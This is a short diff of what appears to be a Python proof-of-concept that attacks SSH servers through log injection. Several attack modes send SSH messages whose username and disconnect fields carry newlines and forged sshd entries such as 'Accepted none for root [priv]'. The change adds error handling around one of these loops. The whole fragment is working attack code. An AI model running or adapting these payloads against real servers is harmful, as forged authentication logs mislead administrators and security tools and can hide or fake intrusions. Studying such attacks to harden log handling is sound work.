@@ -59,8 +59,11 @@ def main():
     elif attack == "disconnect":
         send(transport, cMSG_DISCONNECT, 11, ("x\r\n" + login(user))[:390], "")
     elif attack == "none":
-        for title in ("unknown [priv]", "root [priv]", "[net]", "[accepted]"):
-            send(transport, cMSG_USERAUTH_REQUEST, "x\nAccepted none for %s from %s ssh2\ny" % (title, own), "ssh-connection", "none")
+        try:
+            for title in ("unknown [priv]", "root [priv]", "[net]", "[accepted]"):
+                send(transport, cMSG_USERAUTH_REQUEST, "x\nAccepted none for %s from %s ssh2\ny" % (title, own), "ssh-connection", "none")
+        except (OSError, EOFError):
+            pass  # sshd allows one name a connection, and has closed it
     elif attack in ("algorithm", "pushed"):
         for title in (user, user + " [priv]"):
             name = "x\n" + login(title) + "y" * (900 if attack == "pushed" else 1)
